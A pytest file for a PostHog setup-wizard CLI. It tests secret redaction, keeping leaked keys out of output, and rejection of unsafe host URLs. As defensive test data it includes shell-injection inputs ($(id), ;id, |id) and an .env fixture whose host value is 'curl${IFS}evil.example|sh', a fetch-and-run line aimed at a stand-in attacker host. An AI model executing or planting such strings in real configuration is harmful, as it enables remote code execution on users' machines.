"""What a repository, a variable or a slip of the hand can do: a secret in the wrong place, a program of theirs."""

from __future__ import annotations

import json
import os
import queue
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from tests.fixture_case import Case
from tests.in_process import wizard
from wizard import cli, programs
from wizard.errors import UsageError
from wizard.login import flow as browser_login
from wizard.login.flow import Screen
from wizard.posthog.callback import Expected, Listener, Mismatch
from wizard.posthog.hosts import of
from wizard.posthog.masking import redact
from wizard.posthog.oauth_metadata import Endpoints

ROOT = Path(__file__).parents[1]
KEY = "phx_" + "K3yK3y" * 6
OLD = "oldkeywithoutprefix0123456789"
TOKEN = "phc_" + "t" * 43


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (KEY, "phx_..."),
        (f"key={KEY}&a", "key=phx_...&a"),
        (f"a\n{KEY}", "a\nphx_..."),
        (json.dumps(f"a\n{KEY}"), '"a\\nphx_..."'),
        (json.dumps(f"\u00e9{KEY}"), '"\\u00e9phx_..."'),
        (f"\u00e9{KEY}", "\u00e9phx_..."),
        (f"token%3D{KEY}%20", "token%3Dphx_...%20"),
        (repr(f"\x1b{KEY}"), "'\\x1bphx_...'"),
        ("pha_abcdef phr_abcdef phs_abcdef", "pha_... phr_... phs_..."),
        ("graphs_total paragraphs_of alpha_beta", "graphs_total paragraphs_of alpha_beta"),
        ("phx_", "phx_"),
        (TOKEN, TOKEN),
    ],
)
def test_what_looks_like_a_secret_does_not_show(text: str, shown: str) -> None:
    assert redact(text) == shown


def test_project_tokens_are_masked_where_it_is_asked_for() -> None:
    assert redact(f"a\\n{TOKEN}", public=True) == "a\\nphc_tttt...tttt"


SLIPS = {
    "argument": ["login", KEY],
    "region": ["login", "--region", KEY],
    "token": ["verify", "--ci", "--token", KEY],
    "directory": ["setup", KEY, "--ci"],
    "host": ["login", "--key", "--host", KEY],
    "event": ["verify", "--ci", "--resume", KEY],
    "framework": ["setup", "--ci", "--framework", KEY],
    "port": ["listen", "--port", KEY],
    "forward": ["listen", "--forward", KEY],
    "command": [KEY],
    "flag": [f"--{KEY}"],
}


@pytest.mark.parametrize("as_json", [False, True], ids=["words", "json"])
@pytest.mark.parametrize("given", SLIPS.values(), ids=SLIPS)
def test_a_key_in_the_wrong_place_is_not_repeated(given: list[str], as_json: bool, tmp_path: Path) -> None:
    root = Case("flask-module").copy(tmp_path)
    where = [str(root)] if given[0] == "verify" else []
    done = wizard(*given, *where, *(["--json"] if as_json else []))
    assert done.returncode in (1, 2)
    assert KEY not in done.stdout + done.stderr


@pytest.mark.parametrize("name", ["POSTHOG_PERSONAL_API_KEY", "POSTHOG_CLI_TOKEN", "POSTHOG_WIZARD_PERSONAL_KEY"])
def test_keys_of_old_are_known_by_their_variable(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    def fail(*given: Any, **more: Any) -> int:
        raise RuntimeError(f"\x1b[2Jno luck with {OLD}")

    monkeypatch.setenv(name, OLD)
    monkeypatch.setenv("POSTHOG_WIZARD_STATE_DIR", str(tmp_path))
    monkeypatch.setattr(cli, "cli", fail)
    assert cli.main(["login", "--debug"]) == 70
    shown = "".join(capfd.readouterr())
    log = (tmp_path / "last-error.log").read_text()
    assert "no luck" in shown
    assert "no luck" in log
    assert OLD not in shown + log
    assert "\x1b[2J" not in shown
    assert programs.secrets() == [OLD]


def test_an_error_is_told_where_no_log_can_be_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("POSTHOG_WIZARD_STATE_DIR", str(tmp_path / "file" / "state"))
    monkeypatch.setattr(cli, "cli", lambda *given, **more: 1 // 0)
    assert cli.main(["login"]) == 70
    assert "report it with the output of the same command and --debug" in " ".join(capfd.readouterr().err.split())


@pytest.mark.parametrize(
    "url",
    [
        "https://ph.example/$(id)",
        "https://ph.example/;id",
        "https://ph.example/&id",
        "https://ph.example/|id",
        "https://ph.example/${IFS}",
        "https://ph.example/{a,b}",
        "https://ph.example/*",
        "https://ph.example/!x",
        "https://ph.example/\x1b[2J",
        "https://ph.example/\u202egpj.exe",
        "https://ph\u200b.example",
        "$HOST",
        "${HOST}",
    ],
)
def test_a_host_with_what_a_shell_or_terminal_obeys(url: str) -> None:
    with pytest.raises(UsageError, match="is not a URL of a PostHog host") as caught:
        of(url)
    assert caught.value.message.isprintable()


@pytest.mark.parametrize(
    ("url", "base"),
    [
        ("https://ph.example/base?next=$(id)", "https://ph.example/base"),
        ("https://ph.example/#panel;id", "https://ph.example"),
        ("https://ph.example/~me/a%20b", "https://ph.example/~me/a%20b"),
        ("https://p\u00f6st.example", "https://p\u00f6st.example"),
    ],
)
def test_what_is_no_part_of_a_host_is_left_out(url: str, base: str) -> None:
    assert of(url).app == base


def test_the_file_that_names_no_host_is_named(tmp_path: Path) -> None:
    root = Case("flask-module").copy(tmp_path)
    (root / ".env").write_text("POSTHOG_HOST=https://ph.example/;curl${IFS}evil.example|sh\n")
    done = wizard(root, "--ci", "--dry-run", "--token", TOKEN)
    assert done.returncode == 2
    assert "POSTHOG_HOST in .env" in done.stderr
    assert "name your PostHog with --region or --host" in " ".join(done.stderr.split())
    assert wizard(root, "--ci", "--dry-run", "--token", TOKEN, "--region", "us").returncode in (0, 1)


@pytest.mark.skipif(sys.platform == "win32", reason="scripts with #!")
@pytest.mark.parametrize("named", ["xdg-open", "firefox"])
def test_no_browser_of_the_repository_is_started(named: str, tmp_path: Path) -> None:
    theirs, ours = tmp_path / "repository", tmp_path / "bin"
    for folder in (theirs, ours):
        folder.mkdir()
        script = folder / named
        script.write_text(f'#!/bin/sh\n/usr/bin/env > "{folder}/env.new"\n/bin/mv "{folder}/env.new" "{folder}/seen"\n')
        script.chmod(0o755)
    code = f"import sys; sys.path.insert(0, {str(ROOT)!r}); from wizard.login.browser import open_page; open_page('http://[::1]/')"
    env = {"PATH": f".:{ours}", "DISPLAY": ":0", "HOME": str(tmp_path), "POSTHOG_PERSONAL_API_KEY": KEY, "MINE": OLD}
    subprocess.run([sys.executable, "-c", code], env=env, cwd=theirs, capture_output=True, timeout=30, check=True)
    deadline = time.monotonic() + 5
    while not (ours / "seen").exists() and time.monotonic() < deadline:
        time.sleep(0.01)
    started_with = (ours / "seen").read_text()
    assert OLD in started_with
    assert KEY not in started_with
    assert not (theirs / "seen").exists()


def test_a_page_that_floods_the_callback_is_told_of_a_few_times() -> None:
    answers = [Mismatch("not ours")] * 500
    told: list[str] = []

    def answer(seconds: float = 0.0) -> str:
        if answers:
            raise answers.pop()
        return "the code"

    screen = Screen(lambda url, limit: None, told.append)
    found = browser_login._answer(SimpleNamespace(answer=answer), None, screen, 10.0, lambda: 0.0)  # type: ignore[arg-type]
    assert found == "the code"
    assert len(told) == 5


def test_refused_answers_do_not_pile_up() -> None:
    endpoints = Endpoints("https://ph.example", "https://ph.example/a", "https://ph.example/t")
    with Listener(Expected("state", endpoints), (), True) as listener:
        for _ in range(1000):
            listener.keep(Mismatch("not ours"))
        listener.keep("the code")
        kept = []
        while True:
            try:
                found = listener.answer()
            except Mismatch:
                kept.append("mismatch")
                continue
            kept.append(str(found))
            break
    assert kept[-1] == "the code"
    assert len(kept) < 30
    assert isinstance(listener._answers, queue.Queue)


OFFLINE = """
import json, os, sys
from wizard.cli import main
code = main(json.loads(sys.argv[1]))
sys.exit(code)
"""


def offline(tmp_path: Path, *given: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    places = {f"POSTHOG_WIZARD_{name}_DIR": str(tmp_path / name.lower()) for name in ("STATE", "CONFIG")}
    return subprocess.run(
        [sys.executable, "-c", OFFLINE, json.dumps(given)],
        cwd=ROOT, env={**os.environ, **places, **(env or {})}, capture_output=True, text=True, timeout=60,
    )  # fmt: skip


def test_logging_out_offline_deletes_and_says_what_is_left(tmp_path: Path) -> None:
    secrets = {"secret": "pha_" + "x" * 30, "refresh": "phr_" + "x" * 30}
    urls = {name: f"https://oauth.posthog.com/oauth/{name[:-4]}/" for name in ("token_url", "revoke_url")}
    login = {"kind": "login", "expires_at": 1, "client_id": "c", "kept_in": "file", **secrets, **urls}
    file = tmp_path / "config" / "credentials.json"
    file.parent.mkdir()
    file.write_text(json.dumps({"schema": 1, "logins": {"https://us.posthog.com": login}}))
    done = offline(tmp_path, "logout", "--offline")
    assert done.returncode == 3
    assert "was not revoked (--offline forbids" in " ".join(done.stderr.split())
    assert not file.exists()


def test_doctor_offline_looks_at_the_code(tmp_path: Path) -> None:
    root = Case("flask-module").copy(tmp_path)
    done = offline(tmp_path, "doctor", str(root), "--offline", "--token", TOKEN, "--json")
    assert done.returncode == 4
    [app] = json.loads(done.stdout)["apps"]
    assert app["not_looked_at"] == ["The project in PostHog: --offline forbids the network."]


@pytest.mark.parametrize("given", [["login", "--device", "--save", "--region", "us"], ["listen", "--port", "0"]])
def test_the_variable_binds_commands_without_the_flag(given: list[str], tmp_path: Path) -> None:
    done = offline(tmp_path, *given, env={"POSTHOG_WIZARD_OFFLINE": "1"})
    assert done.returncode == 1
    assert "--offline forbids the network" in done.stderr
    assert "Traceback" not in done.stderr


PLANNING = """
import json, sys
used = []
def hook(event, arguments):
    if event in ("socket.bind", "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.sendto"):
        used.append(event)
    if event in ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.startfile"):
        name = str(arguments[0])
        if not name.endswith(("git", "git.exe")):
            used.append(name)
sys.addaudithook(hook)
from wizard.cli import main
for given in json.loads(sys.argv[1]):
    code = main(given)
    assert code in (0, 5), (given, code)
    assert not used, (given, used)
"""


def test_planning_uses_no_network_whatever_the_token_comes_from(tmp_path: Path) -> None:
    empty, there = Case("flask-module").copy(tmp_path / "a"), Case("flask-module").copy(tmp_path / "b")
    (there / ".env").write_text(f"POSTHOG_PROJECT_TOKEN={TOKEN}\nPOSTHOG_HOST=https://evil.example\n")
    plan = [str(empty), "--dry-run", "--ci"]
    runs = [
        [*plan, "--token", TOKEN, "--region", "us"],
        [*plan, "--token", TOKEN, "--host", "https://ph.example", "--json"],
        [*plan, "--no-token"],
        [str(there), "--dry-run", "--ci"],
        [str(empty), "--check", "--ci"],
        [str(there), "--check", "--ci"],
        [str(empty), "--check", "--ci", "--token", TOKEN],
        ["detect", str(there)],
    ]
    for env in ({}, {"POSTHOG_WIZARD_PERSONAL_KEY": KEY}):
        done = subprocess.run(
            [sys.executable, "-c", PLANNING, json.dumps(runs)],
            cwd=ROOT, env={**os.environ, **env}, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr[-2000:]
